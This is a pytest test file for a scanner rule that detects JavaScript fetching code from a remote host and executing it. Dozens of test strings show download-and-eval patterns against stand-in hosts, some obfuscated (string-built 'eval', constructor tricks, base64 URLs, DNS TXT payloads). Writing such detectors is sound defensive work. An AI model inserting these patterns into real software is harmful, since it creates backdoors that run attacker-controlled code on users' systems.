import pytest

from lazaretto.detect.rules.javascript.remote_code_executed import RULE

CONTROLLER = """\
const axios = require("axios");
exports.getInfo = async (req, res) => {
  const { data } = await axios.get("https://files.example.test/info");
  eval(data.cookie);
  res.json({});
};
"""


def test_answer_reaches_eval(look):
    assert look(RULE, CONTROLLER) == [(4, "CRITICAL", "HIGH", "eval executes what files.example.test answers")]


def test_finding_tells_both_places(look):
    (finding,) = look.result(RULE, CONTROLLER).findings
    assert [place.line for place in finding.locations] == [4, 3]
    assert finding.excerpt == "eval(data.cookie)"
    assert finding.techniques == ("T1059.007", "T1105")


@pytest.mark.parametrize(
    "source",
    [
        # spellings of the executor
        'const a = await fetch("https://x.test/a").then(r => r.text()); (0, eval)(a)',
        'const a = await (await fetch("https://x.test/a")).text(); globalThis["ev" + "al"](a)',
        'const F = Function; const a = await got("https://x.test/a").text(); F("require", a)(require)',
        'const A = (async () => {}).constructor; const a = await got("https://x.test/a"); await new A("require", a.body)(require)',
        'got("https://x.test/a").then(a => { [].constructor.constructor(a.body)() })',
        'got("https://x.test/a").then(a => Reflect.construct(Function, ["require", a.body])(require))',
        'const vm = require("node:vm"); got("https://x.test/a").then(a => vm.runInThisContext(a.body))',
        'const m = new module.constructor(); got("https://x.test/a").then(a => m._compile(a.body, "x"))',
        'import("data:text/javascript;base64," + (await axios.get("https://x.test/a")).data)',
        # ways of the value
        'const h = require("https"); h.get("https://x.test/a", r => { let d = ""; r.on("data", c => { d += c }); r.on("end", () => eval(d)) })',
        'const h = require("https"); const all = []; h.get("https://x.test/a", r => { r.on("data", c => all.push(c)); r.on("end", () => eval(Buffer.concat(all).toString())) })',
        'const q = require("request"); q({ url: "https://x.test/a" }, (err, res, body) => { new Function("require", JSON.parse(body).model)(require) })',
        'const load = async () => (await fetch("https://x.test/a")).text(); load().then(run); function run(t) { eval(t) }',
        'const api = { load: async () => (await fetch("https://x.test/a")).text() }; (async () => { const z = await api.load(); eval(z) })()',
        'const s = {}; axios.get("https://x.test/a").then(r => { s.code = r.data.model }); setTimeout(() => { eval(s.code) }, 10)',
        'class L { async code() { return (await axios.get("https://x.test/a")).data } async run() { const c = await this.code(); eval(c) } }',
        'const e = new Emitter(); axios.get("https://x.test/a").then(r => e.emit("go", r.data)); e.on("go", d => eval(d))',
        'const w = new WebSocket("ws://x.test"); w.onmessage = (m) => { eval(m.data) }',
        'new Promise((ok) => { axios.get("https://x.test/a").then(r => ok(r.data)) }).then(t => eval(t))',
        'const { data: { cookie: [first] } } = await axios.get("https://x.test/a"); eval(first)',
        'const dns = require("dns"); dns.resolveTxt("x.example.test", (e, r) => { eval(Buffer.from(r.flat().join(""), "base64").toString()) })',
        # ways of the address
        'const h = ["x", "test"].join("."); eval((await axios.get(`https://${h}/a`)).data)',
        'const u = Buffer.from("aHR0cHM6Ly94LnRlc3QvYQ==", "base64").toString(); eval((await axios.get(u)).data)',
        'const cfg = { api: "https://x.test/a" }; eval((await axios.get(cfg.api)).data)',
        'const { Url } = require("./constant"); eval((await axios.get(Url)).data)',
        'import cfg from "../config.json"; eval((await axios.get(cfg.api.url)).data)',
    ],
)
def test_variants(look, source):
    (finding,) = look(RULE, source)
    assert finding[1:3] == ("CRITICAL", "HIGH")


def test_typescript_and_components(look):
    typed = (
        'import axios from "axios";\nexport const run = async (): Promise<void> => {\n'
        "  const res = await axios.get<any>(`https://x.test/a` as string);\n"
        '  new ((Function as any).constructor)("require", res!.data.token)(require);\n};\n'
    )
    assert [fact[:3] for fact in look(RULE, typed, "src/a.ts")] == [(4, "CRITICAL", "HIGH")]
    component = '<template><p>eval</p></template>\n<script setup lang="ts">\nconst r = await fetch("https://x.test/a");\neval(await r.text());\n</script>\n'
    assert [fact[:3] for fact in look(RULE, component, "src/A.vue")] == [(4, "CRITICAL", "HIGH")]


def test_answer_to_an_unknown_address_says_less(look):
    script = 'function loadScript(url) { const x = new XMLHttpRequest(); x.open("GET", url); x.onload = () => eval(x.responseText) }'
    assert [fact[1:3] for fact in look(RULE, script)] == [("MEDIUM", "LOW")]
    assert [fact[1:3] for fact in look(RULE, 'fetch("/api/x").then(r => r.text()).then(t => eval(t))')] == [
        ("MEDIUM", "LOW")
    ]


@pytest.mark.parametrize(
    "source",
    [
        'const { data } = await axios.get("https://files.example.test/info"); console.log(data); eval("1 + 1")',
        'const root = Function("return this")(); fetch("https://x.test/a")',
        'const validate = new Function("self", "scope", sourceCode); fetch("https://x.test/a")',
        'const r = await fetch("https://x.test/a"); const m = /a/.exec(await r.text())',
        "// eval((await axios.get('https://x.test/a')).data)",
        'const r = await axios.get("https://x.test/a"); if (r.status === 200) setTimeout(() => next(r.data), 10)',
        'const page = await browser.newPage(); await page.eval(await (await fetch("https://x.test/a")).text())',
    ],
)
def test_near_misses(look, source):
    assert look(RULE, source) == []


def test_too_many_places_is_a_gap_and_not_silence():
    from lazaretto.detect.engine import Engine
    from lazaretto.parse.blob import Blob
    from lazaretto.parse.javascript import JavaScriptModule

    source = b'fetch("https://x.test");' + b"eval(x);" * 5000
    result = Engine([RULE], [JavaScriptModule]).examine(Blob("a.js", source))
    assert [gap.partial for gap in result.gaps] == [True]


@pytest.mark.parametrize(
    "source",
    [
        'const k = "constructor"; axios.get("https://x.test/a").then((z) => (() => {})[k]("require", z.data)(require))',
        'const { Worker } = require("worker_threads"); fetch("https://x.test/a").then((r) => r.text()).then((t) => new Worker(t, { eval: true }))',
        'fetch("https://x.test/a").then((r) => r.json()).then(({ v }) => (1, eval)(v))',
    ],
)
def test_makers_in_disguise(look, source):
    assert [fact[1:3] for fact in look(RULE, source)] == [("CRITICAL", "HIGH")]


def test_a_worker_of_a_file_is_no_code(look):
    source = 'const { Worker } = require("worker_threads"); fetch("https://x.test/a").then((r) => r.text()).then((t) => new Worker(t, { eval: false }))'
    assert look(RULE, source) == []


def test_a_socket_to_an_address_that_the_user_of_the_module_gives(look):
    source = """class Client {{
  constructor(url) {{
    this.ws = new WebSocket({address});
    this.ws.onmessage = (message) => {{ eval(JSON.parse(message.data).code) }};
  }}
}}
module.exports = Client;
"""
    assert [fact[1:3] for fact in look(RULE, source.format(address="url"))] == [("MEDIUM", "LOW")]
    assert [fact[1:3] for fact in look(RULE, source.format(address='"wss://x.test/a"'))] == [("CRITICAL", "HIGH")]
